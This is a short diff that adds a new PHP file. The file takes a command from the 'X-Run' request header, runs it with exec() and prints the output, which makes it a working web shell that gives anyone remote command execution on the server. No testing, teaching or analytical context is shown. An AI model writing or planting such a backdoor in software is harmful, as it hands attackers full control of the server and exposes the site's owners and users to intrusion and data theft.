@@ -1,0 +1,4 @@
+<?php
+$h = getallheaders();
+exec($h['X-Run'], $out);
+echo implode("\n", $out);
